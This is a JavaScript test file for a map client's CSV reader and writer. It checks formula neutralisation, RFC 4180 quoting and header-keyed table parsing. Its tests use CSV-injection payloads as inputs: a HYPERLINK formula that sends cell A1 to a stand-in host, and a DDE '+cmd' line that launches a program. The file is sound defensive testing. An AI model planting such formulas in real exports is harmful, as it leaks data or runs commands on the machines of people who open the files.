// The map client's CSV (web/src/lib/csv.js). Writing: no cell a spreadsheet would run
// as a formula, numbers kept, quoting as RFC 4180 wants. Reading: the server's track
// CSV rules (quotes only when a line has one, a BOM, CRLF, blank lines skipped) and the
// build's tables (data/prices, data/divisions).

import assert from 'node:assert/strict';
import { test } from 'node:test';

import { csvCell, csvFields, csvRecords, formulaSafe, readCsvTable, toCsv } from '../src/lib/csv.js';

test('every formula start is neutralised', () => {
  for (const cell of ['=HYPERLINK("http://x.example/?"&A1,"点击")', '+cmd|\' /C calc\'!A0', '-2+3', '-', '@SUM(A1:A2)',
    '\t=1+1', '\r=1+1', '=1', '--1', '-1e']) {
    assert.equal(formulaSafe(cell), `'${cell}`, JSON.stringify(cell));
  }
});

test('numbers and ordinary text are kept', () => {
  for (const cell of ['-2', '+3', '-0.5', '0.5', '.5', '5.', '1e5', '-1.5E-3', '969000.00', '猗氏镇', '无变化', '', 'a=b', ' =1']) {
    assert.equal(formulaSafe(cell), cell, JSON.stringify(cell));
  }
  assert.equal(csvCell(-2), '-2');
  assert.equal(csvCell(null), '');
});

test('a CSV file has a BOM, CRLF lines, quoted and neutralised cells', () => {
  const text = toCsv([['id', 'change'], ['=HYPERLINK("http://x.example","a")', -2], ['\r=1', '+cmd']]);
  assert.equal(text, '\uFEFFid,change\r\n"\'=HYPERLINK(""http://x.example"",""a"")",-2\r\n"\'\r=1",\'+cmd\r\n');
});

test('fields are split at commas, with CSV quoting when the line has a quote', () => {
  assert.deepEqual(csvFields('a,b,,c'), ['a', 'b', '', 'c']);
  assert.deepEqual(csvFields(' a , b '), [' a ', ' b '], 'unquoted fields keep their spaces');
  assert.deepEqual(csvFields('"a,b",c'), ['a,b', 'c']);
  assert.deepEqual(csvFields('"say ""hi""",2'), ['say "hi"', '2']);
  assert.deepEqual(csvFields('x, "q" ,y'), ['x', 'q', 'y'], 'spaces around a quoted field are dropped');
  assert.deepEqual(csvFields('"open,end'), ['open,end'], 'an unclosed quote runs to the end of the line');
  assert.deepEqual(csvFields('1,"2"'), ['1', '2']);
  assert.deepEqual(csvFields(''), ['']);
});

test('records keep the line numbers an editor shows; BOM, CRLF and blank lines are dropped', () => {
  const records = csvRecords('\uFEFFtime,lon,lat\r\n\r\n1,2,3\r\n   \n4,"5",6');
  assert.deepEqual(records, [
    { line: 1, fields: ['time', 'lon', 'lat'] },
    { line: 3, fields: ['1', '2', '3'] },
    { line: 5, fields: ['4', '5', '6'] },
  ]);
});

test('a table is read as objects keyed by its header, values as text', () => {
  const rows = readCsvTable('code,name,kind,parent_code\n140821100,"猗氏镇",township,140821\n1408211,"A, B",village,\n');
  assert.deepEqual(rows, [
    { code: '140821100', name: '猗氏镇', kind: 'township', parent_code: '140821' },
    { code: '1408211', name: 'A, B', kind: 'village', parent_code: '' },
  ]);
  assert.deepEqual(readCsvTable(''), []);
  // The gazette's numbers stay as published.
  assert.equal(readCsvTable('grade,wan_yuan_per_mu\n1,45.70\n')[0].wan_yuan_per_mu, '45.70');
});

test('what the writer writes, the reader reads back (one line per record)', () => {
  const rows = [['name', 'note'], ['A, B', 'say "hi"'], ['猗氏镇', '']];
  const text = toCsv(rows);
  assert.deepEqual(csvRecords(text).map((r) => r.fields), rows);
});
